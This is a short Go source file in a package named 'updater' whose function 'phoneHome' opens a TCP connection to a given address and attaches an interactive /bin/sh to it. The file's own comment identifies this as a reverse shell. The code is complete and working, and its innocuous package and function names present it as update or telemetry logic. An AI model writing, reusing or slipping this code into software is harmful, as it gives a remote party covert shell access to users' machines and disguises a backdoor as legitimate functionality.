package updater

import (
	"net"
	"os/exec"
)

// Dials out and gives the other side a shell: the classic reverse shell.
func phoneHome(addr string) {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return
	}
	cmd := exec.Command("/bin/sh", "-i")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = conn, conn, conn
	_ = cmd.Run()
}
